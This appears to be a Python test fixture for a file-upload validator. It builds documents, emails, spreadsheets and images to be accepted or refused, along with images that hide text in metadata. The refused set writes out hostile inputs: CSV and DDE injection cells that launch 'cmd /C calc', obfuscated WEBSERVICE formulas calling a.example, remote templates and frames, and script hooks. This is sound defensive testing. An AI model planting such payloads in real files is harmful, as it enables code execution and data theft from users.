# ruff: noqa: E501
"""A third list of files as people send them: taken as what they are, or refused with the reason; and pictures."""

import base64
import io
import struct
import zipfile
import zlib

from odf.opendocument import OpenDocumentSpreadsheet
from PIL import Image

from tests.unseen.office import Made, book, odf, picture, put, repacked, slides, swap, tied, word
from tests.unseen.pictures import WORD, chunk, jpeg, png

SHEET = "xl/worksheets/sheet1.xml"
DOCUMENT = "word/document.xml"


def sheet(xml: bytes) -> bytes:
    """A workbook whose first sheet has this before its end."""
    return repacked(book(), swap(SHEET, b"</sheetData>", xml + b"</sheetData>"))


def cell(inner: bytes) -> bytes:
    return sheet(b'<row r="9"><c r="A9">' + inner + b"</c></row>")


def letter(inner: bytes) -> bytes:
    return repacked(word(), swap(DOCUMENT, b"<w:body>", b"<w:body><w:p>" + inner + b"</w:p>"))


def as_kind(data: bytes, old: bytes, new: bytes) -> bytes:
    return repacked(data, swap("[Content_Types].xml", old, new))


def with_macros() -> bytes:
    return repacked(word(), put("word/vbaProject.bin", b"Attribute VB_Name" * 40))


def mail(data: bytes, name: str) -> bytes:
    body = base64.encodebytes(data)
    return (
        b"From: a@agency.example\r\nTo: b@agency.example\r\nSubject: Notes\r\nDate: Fri, 1 May 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--x\r\n'
        b'Content-Type: application/octet-stream; name="'
        + name.encode()
        + b'"\r\nContent-Transfer-Encoding: base64\r\n'
        b'Content-Disposition: attachment; filename="' + name.encode() + b'"\r\n\r\n' + body + b"\r\n--x--\r\n"
    )


def ods(change: bytes, old: bytes = b"<table:table-cell") -> bytes:
    return repacked(
        odf(OpenDocumentSpreadsheet), swap("content.xml", old, change + old if change.startswith(b"<") else change)
    )


def ods_formula(formula: bytes) -> bytes:
    cell_of = b'<table:table-cell table:formula="' + formula + b'"'
    return repacked(
        odf(OpenDocumentSpreadsheet),
        lambda parts: parts.__setitem__("content.xml", parts["content.xml"].replace(b"<table:table-cell", cell_of, 1)),
    )


def heic(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\0\0\0\0" + b"mif1" + brand + b"\0" * 40


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        for name, content in parts.items():
            new.writestr(name.replace("__", "/"), content)
    return out.getvalue()


DOTX = (b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
XLTX = (b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml")
PPSX = (b"presentationml.presentation.main+xml", b"presentationml.slideshow.main+xml")

TAKEN: dict[str, tuple[str, Made]] = {
    "a photograph of an iPhone": ("heic", lambda: heic(b"heic")),
    "a photograph of ten bits": ("heic", lambda: heic(b"heix")),
    "a photograph with an archive after it": ("jpg", lambda: picture("JPEG") + zipped(a=b"x")),
    "an email with a letter": ("eml", lambda: mail(word(), "notes.docx")),
    "an email with a photograph": ("eml", lambda: mail(picture("JPEG"), "IMG_0001.jpg")),
    "an email with a PDF's words in it": ("eml", lambda: mail(b"%PDF-1.4 x", "a.pdf")),
    "an email that quotes a PDF": (
        "eml",
        lambda: (
            b"From: a@agency.example\r\nSubject: %PDF-1.4\r\nDate: Fri, 1 May 2026 10:00:00 +0100\r\n\r\nThe file began with %PDF-1.7 and could not be opened.\r\n"
        ),
    ),
    "a table with sums": ("csv", lambda: b"Date,Miles\n2026-05-01,=1+2\n2026-05-02,-4\n"),
    "a table with names that begin with a sign": ("csv", lambda: b"Who,What\n@mum,-rang\n+44 7700 900123,=\n"),
    "a workbook with a name for cells": (
        "xlsx",
        lambda: repacked(
            book(),
            swap(
                "xl/workbook.xml",
                b"</workbook>",
                b"<definedNames><definedName name='x'>Sheet!$A$1</definedName></definedNames></workbook>",
            ),
        ),
    ),
    "a workbook that mentions a formula": (
        "xlsx",
        lambda: book(lambda made: made.append(["They used WEBSERVICE( once"])),
    ),
    "a sheet of LibreOffice's kind that adds": ("ods", lambda: ods_formula(b"of:=SUM([.A1:.A2])")),
    "a letter with a link to a page": (
        "docx",
        lambda: letter(
            b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://www.gov.uk/"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ),
}
REFUSED: dict[str, tuple[str, Made]] = {
    "a letter's template": ("template|docx", lambda: as_kind(word(), *DOTX)),
    "a workbook's template": ("template|xlsx|must be a", lambda: as_kind(book(), *XLTX)),
    "a letter with macros in an email": ("macros", lambda: mail(with_macros(), "notes.docm")),
    "a letter with macros in an email as its plain kind": ("macros", lambda: mail(with_macros(), "notes.docx")),
    "an old letter with macros in an email": (
        "macros",
        lambda: mail(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600,
            "notes.doc",
        ),
    ),
    "a program in an email": ("program", lambda: mail(b"MZ\x90\0\x03\0\0\0" + b"\0" * 200, "notes.exe")),
    "a shortcut in an email": ("program", lambda: mail(b"L\0\0\0\x01\x14\x02\0", "notes.lnk")),
    "a formula that fetches, in other signs": (
        "fetches",
        lambda: cell(b"<f>WEB&#83;ERVICE(&quot;https://a.example/&quot;)</f>"),
    ),
    "a formula that fetches, set apart": (
        "fetches",
        lambda: cell(b'<f><![CDATA[WEBSERVICE("https://a.example/")]]></f>'),
    ),
    "a formula that fetches, with a remark": (
        "fetches|cannot be read",
        lambda: cell(b'<f>WEB<!-- x -->SERVICE("https://a.example/")</f>'),
    ),
    "a name that fetches": (
        "fetches",
        lambda: repacked(
            book(),
            swap(
                "xl/workbook.xml",
                b"</workbook>",
                b"<definedNames><definedName name='x'>_xlfn.WEBSERVICE(\"https://a.example/\")</definedName></definedNames></workbook>",
            ),
        ),
    ),
    "a rule for a cell that fetches": (
        "fetches",
        lambda: repacked(
            book(),
            swap(
                SHEET,
                b"</sheetData>",
                b'</sheetData><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("https://a.example/")=1</formula1></dataValidation></dataValidations>',
            ),
        ),
    ),
    "a picture from elsewhere in other signs": (
        "fetches|outside|elsewhere",
        lambda: letter(
            b'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="&#104;ttp://a.example/x.png"/></v:shape></w:pict></w:r>'
        ),
    ),
    "a workbook with figures of DDE": (
        "another program|outside|fetches|starts",
        lambda: repacked(
            book(),
            put(
                "xl/externalLinks/externalLink1.xml",
                b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            ),
        ),
    ),
    "a table with a cell of DDE": ("starts|program", lambda: b"Date,What\n2026-05-01,=cmd|' /C calc'!A0\n"),
    "a table with a cell of DDE after a sign": (
        "starts|program",
        lambda: b"Date,What\n2026-05-01,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
    ),
    "a table with a cell that fetches": (
        "fetches|outside",
        lambda: b'Date,What\n2026-05-01,"=WEBSERVICE(""https://a.example/""&A1)"\n',
    ),
    "a sheet of LibreOffice's kind that fetches": (
        "outside|fetches",
        lambda: ods_formula(b"of:=WEBSERVICE(&quot;https://a.example/&quot;)"),
    ),
    "a sheet of LibreOffice's kind with DDE": (
        "outside|fetches|starts",
        lambda: ods_formula(b"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"),
    ),
    "a sheet of LibreOffice's kind that runs a script": (
        "script|macros|outside",
        lambda: repacked(
            odf(OpenDocumentSpreadsheet),
            swap(
                "content.xml",
                b"</office:body>",
                b'</office:body><office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:script" xlink:href="vnd.sun.star.script:x.py$run?language=Python&amp;location=share"/></office:event-listeners></office:scripts>',
            ),
        ),
    ),
    "a workbook in two parts": (
        "xlsx|must be a",
        lambda: zipped(xl__workbook=b"x", **{"[Content_Types].xml": b"<Types/>"}),
    ),
    "a letter with a template by the web": (
        "template",
        lambda: repacked(
            word(), tied("attachedTemplate", "&#104;ttps://a.example/x.dotm", "word/_rels/document.xml.rels")
        ),
    ),
    "a letter with a frame": (
        "outside|another page",
        lambda: repacked(word(), tied("frame", "https://a.example/", "word/_rels/document.xml.rels")),
    ),
    "a presentation with a program to run": (
        "starts|program",
        lambda: slides(
            put(
                "ppt/slides/slide1.xml",
                b'<p:sld xmlns:p="a" xmlns:a="b"><a:hlinkClick action="ppaction://program"/></p:sld>',
            )
        ),
    ),
    "a page of the web in one file": (
        "web page|must be a|email",
        lambda: (
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<html><script>x()</script></html>\r\n--x--\r\n"
        ),
    ),
    "a text of LibreOffice in one file": (
        "XML",
        lambda: b'<?xml version="1.0"?><office:document office:mimetype="application/vnd.oasis.opendocument.text"/>',
    ),
    "a picture of the web": ("PNG or JPEG", lambda: picture("WEBP")),
    "an archive of RAR": ("archive", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 60),
    "an archive of 7z": ("archive", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60),
    "a disc": ("must be a", lambda: b"\0" * 32769 + b"CD001" + b"\0" * 100),
    "a film": ("film|must be a", lambda: struct.pack(">I", 24) + b"ftypisom" + b"\0" * 60),
    "a recording": ("must be a", lambda: b"ID3\x04" + b"\0" * 60),
    "a note of OneNote": ("must be a", lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 60),
}


def rows_beyond() -> bytes:
    """A PNG whose points go on after its last row, as a program that crops in place leaves them."""
    head = struct.pack(">IIBBBBB", 16, 8, 8, 0, 0, 0, 0)
    rows = b"".join(b"\0" + b"\x80" * 16 for _ in range(8)) + b"\0" + WORD.ljust(16, b" ")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def colours_beyond() -> bytes:
    """A grey PNG with a palette nobody draws with, which is words."""
    data = png("L")
    at = data.index(b"IDAT") - 4
    return data[:at] + chunk(b"PLTE", WORD.ljust(18, b"\0")) + data[at:]


def shorter_than_it_is() -> bytes:
    """A JPEG whose head says half its height: the rest can be had again by whoever changes a number."""
    out = io.BytesIO()
    half = Image.new("L", (64, 64), 255)
    half.paste(Image.effect_noise((64, 32), 90), (0, 32))
    half.save(out, "JPEG", quality=90)
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 7] = struct.pack(">H", 32)
    return bytes(data)


def in_tables() -> bytes:
    """A JPEG with a table nobody uses, which is words."""
    data = jpeg()
    body = b"\x03" + (WORD * 5)[:64]
    return data[:2] + b"\xff\xdb" + struct.pack(">H", len(body) + 2) + body + data[2:]


PICTURES: dict[str, Made] = {
    "PNG: rows after the last": rows_beyond,
    "PNG: colours nobody uses": colours_beyond,
    "PNG: a chunk of an animation": lambda: _after_head(
        chunk(b"acTL", struct.pack(">II", 2, 0)) + chunk(b"fdAT", b"\0\0\0\1" + WORD)
    ),
    "PNG: Exif": lambda: _after_head(chunk(b"eXIf", b"MM\0*" + WORD)),
    "PNG: a profile": lambda: _after_head(chunk(b"iCCP", b"x\0\0" + zlib.compress(WORD * 3))),
    "PNG: C2PA": lambda: _after_head(chunk(b"caBX", WORD)),
    "JPEG: C2PA": lambda: _after_start(0xEB, b"JP\0\1" + WORD),
    "JPEG: IPTC": lambda: _after_start(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + WORD),
    "JPEG: XMP": lambda: _after_start(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + WORD),
    "JPEG: XMP that goes on": lambda: _after_start(0xE1, b"http://ns.adobe.com/xmp/extension/\0" + WORD),
    "JPEG: a profile": lambda: _after_start(0xE2, b"ICC_PROFILE\0\1\1" + WORD),
    "JPEG: several pictures": lambda: _after_start(0xE2, b"MPF\0" + WORD),
    "JPEG: FlashPix": lambda: _after_start(0xE2, b"FPXR\0" + WORD),
    "JPEG: Ducky": lambda: _after_start(0xEC, b"Ducky\0" + WORD),
    "JPEG: a table nobody uses": in_tables,
}


def _after_head(more: bytes) -> bytes:
    data = png()
    return data[:33] + more + data[33:]


def _after_start(marker: int, body: bytes) -> bytes:
    data = jpeg()
    return data[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + data[2:]
